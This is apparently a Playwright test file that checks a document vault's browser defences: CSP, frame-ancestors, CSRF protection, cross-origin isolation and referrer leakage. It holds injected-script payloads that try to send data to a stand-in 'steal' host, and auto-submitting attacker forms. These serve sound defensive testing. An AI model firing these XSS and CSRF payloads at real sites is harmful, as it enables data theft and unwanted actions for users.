"""Hostile content and hostile sites, met by a real browser (X1, X2, X13)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Error, expect

from tests.browser.conftest import Meet
from tests.browser.gallery import CANARY
from tests.browser.hostile import FILES, foreign_site
from tests.browser.site import Site
from tests.browser.visitor import named_bytes


@pytest.mark.parametrize("name", FILES)
def test_x1_a_hostile_file_is_saved_and_never_shown(site: Site, meet: Meet, name: str) -> None:
    document = site.upload("alice", name, FILES[name], share=("bob",))
    bob = meet("bob")
    bob.page.goto(f"/documents/{document}")
    requests: list[str] = []
    bob.context.on("request", lambda request: requests.append(request.url))
    address = f"{site.url}/documents/{document}/content"
    with bob.page.expect_download() as waiting, pytest.raises(Error, match="Download is starting"):
        bob.page.goto(address)
    assert named_bytes(waiting.value)[1] == FILES[name]
    assert requests == [address], "nothing else was asked for"
    assert bob.page.title() == "Document · Document Vault"
    assert bob.page.evaluate(CANARY) is None


EMBEDDED = """(address) => Promise.all(["iframe", "embed", "object", "img", "script", "link", "audio"].map((name) =>
  new Promise((resolve) => {
    const part = document.createElement(name);
    part.onload = () => resolve(`${name} loaded`);
    part.onerror = () => resolve(`${name} refused`);
    if (name === "link") part.rel = "stylesheet";
    part[{object: "data", link: "href"}[name] || "src"] = address;
    document.body.append(part);
    if (["iframe", "embed", "object"].includes(name)) resolve(`${name} asked`);
  })))"""


def test_x1_a_page_of_the_vault_does_not_embed_a_document(site: Site, meet: Meet) -> None:
    """Even where markup got into a page, a document there is neither picture nor script nor frame."""
    document = site.upload("alice", "polyglot.gif", FILES["polyglot.gif"])
    alice = meet("alice", attacked=True)
    alice.page.goto("/account")
    address = f"{site.url}/documents/{document}/content"
    for answer in alice.page.evaluate(EMBEDDED, address):
        assert not answer.endswith("loaded"), answer
    assert alice.page.evaluate(CANARY) is None
    assert len(alice.page.frames) <= 2
    refused = " ".join(alice.wrong)
    for directive in ("frame-src", "object-src"):
        assert f"policy violation: {directive}" in refused


INJECTED = """() => {
  const script = document.createElement("script");
  script.textContent = "globalThis.ranInTheVault = 'inline'";
  document.body.append(script);
  const box = document.createElement("div");
  box.innerHTML = "<img src='/nothing' onerror='globalThis.ranInTheVault = 1'><p style='color: red' id='painted'>x</p>"
    + "<style>#painted { display: none }</style><a id='link' href='javascript:globalThis.ranInTheVault = 2'>x</a>"
    + "<form id='out' action='http://127.0.0.1:9/steal' method='post'><input name='x'></form>"
    + "<base href='http://127.0.0.1:9/'>";
  document.body.append(box);
  document.getElementById("link").click();
  document.getElementById("out").submit();
  for (const address of ["http://127.0.0.1:9/steal.js", "data:text/javascript,globalThis.ranInTheVault=3"]) {
    const foreign = document.createElement("script");
    foreign.src = address;
    document.body.append(foreign);
  }
  const picture = new Image();
  picture.src = "http://127.0.0.1:9/steal.png";
  let evaluated = "no";
  setTimeout("globalThis.ranInTheVault = 4", 0);
  try { evaluated = (0, eval)("'yes'"); } catch { evaluated = "refused"; }
  return Promise.all([
    evaluated,
    fetch("http://127.0.0.1:9/steal").then(() => "sent", () => "refused"),
    new Promise((resolve) => setTimeout(() => resolve(getComputedStyle(document.getElementById("painted")).color), 50)),
  ]);
}"""


@pytest.mark.parametrize("path", ["/", "/login", "/nowhere", "/documents/selected"])
def test_x2_the_policy_really_blocks(site: Site, meet: Meet, path: str) -> None:
    """Markup that is put into a page by force runs nothing, paints nothing and sends nothing."""
    alice = meet(None if path == "/login" else "alice", attacked=True)
    alice.page.goto(path)
    evaluated, sent, colour = alice.page.evaluate(INJECTED)
    assert (evaluated, sent) == ("refused", "refused")
    assert colour != "rgb(255, 0, 0)"
    assert alice.page.evaluate(CANARY) is None
    assert alice.page.url == f"{site.url}{path}"
    wrong = alice.wrong
    assert not [text for text in wrong if text.startswith("request that leaves")]
    for directive in (
        "script-src-elem inline", "script-src-attr inline", "script-src eval", "style-src-attr inline",
        "style-src-elem inline", "script-src-elem http://127.0.0.1:9", "script-src-elem data",
        "img-src http://127.0.0.1:9", "connect-src http://127.0.0.1:9", "form-action http://127.0.0.1:9",
        "base-uri http://127.0.0.1:9",
    ):  # fmt: skip
        assert any(f"policy violation: {directive}" in text for text in wrong), directive


@pytest.fixture
def attacker(site: Site) -> Iterator[str]:
    """The attacker's pages: a frame, an opened window, and forms that are sent by themselves."""
    form = "<form method=post action={}><input name=x></form><script>document.forms[0].submit()</script>"
    pages = {
        "/frame": f"<title>frame</title><iframe src='{site.url}/login'></iframe>",
        "/open": f"<title>open</title><a href='{site.url}/' target=vault rel=opener>go</a>",
        "/lock": form.format(f"{site.url}/logout"),
        "/end": form.format(f"{site.url}/account/sessions/end-all"),
        "/parts": "<title>parts</title>",
    }
    with foreign_site(pages) as url:
        yield url


def test_x13_no_other_site_frames_the_vault(site: Site, meet: Meet, attacker: str) -> None:
    alice = meet("alice", attacked=True)
    alice.page.goto(f"{attacker}/frame")
    frame = alice.page.frames[1]
    expect(frame.get_by_role("heading", name="Log in")).to_have_count(0)
    assert site.url not in frame.url
    assert any("frame-ancestors" in text for text in alice.wrong)


@pytest.mark.parametrize("page", ["lock", "end"])
def test_x13_no_other_site_sends_a_form(site: Site, meet: Meet, attacker: str, page: str) -> None:
    """Another port is the same site, so the cookie comes along; what stops the form is its Origin and its missing token."""
    alice = meet("alice", attacked=True)
    alice.page.goto(f"{attacker}/{page}")
    alice.page.wait_for_url(f"{site.url}/**")
    expect(alice.page.get_by_role("heading", level=1)).to_have_text("This is not yours to do")
    alice.page.goto("/account")
    alice.expect_heading("alice")


def test_x13_no_other_site_reads_or_holds_a_page(site: Site, meet: Meet, attacker: str) -> None:
    document = site.upload("alice", "picture.svg", FILES["picture.svg"])
    alice = meet("alice", attacked=True)
    alice.page.goto(f"{attacker}/parts")
    loaded = alice.page.evaluate(
        """(addresses) => Promise.all(addresses.map((address) => new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve("loaded");
          picture.onerror = () => resolve("refused");
          picture.src = address;
        })))""",
        [f"{site.url}/documents/{document}/content", f"{site.url}/static/img/favicon.svg"],
    )
    assert loaded == ["refused", "refused"], "Cross-Origin-Resource-Policy"
    for path in ("/", "/session", "/users/suggest?q=bo", "/api/v1/documents"):
        read = "(address) => fetch(address, {credentials: 'include'}).then(() => 'read', () => 'refused')"
        assert alice.page.evaluate(read, f"{site.url}{path}") == "refused"

    alice.page.goto(f"{attacker}/open")
    with alice.context.expect_page() as waiting:
        alice.page.get_by_role("link", name="go").click()
    opened = waiting.value
    expect(opened.get_by_role("heading", level=1)).to_have_text("My documents")
    assert opened.evaluate("window.opener") is None, "Cross-Origin-Opener-Policy"
    assert opened.evaluate("document.referrer") in ("", f"{attacker}/")


def test_x13_no_address_of_a_document_leaves_in_a_referrer(site: Site, meet: Meet, attacker: str) -> None:
    document = site.upload("alice", "plan.txt")
    alice = meet("alice", attacked=True)
    alice.page.goto(f"/documents/{document}")
    alice.page.evaluate("(address) => { location.href = address; }", f"{attacker}/parts")
    expect(alice.page).to_have_title("parts")
    assert alice.page.evaluate("document.referrer") == ""
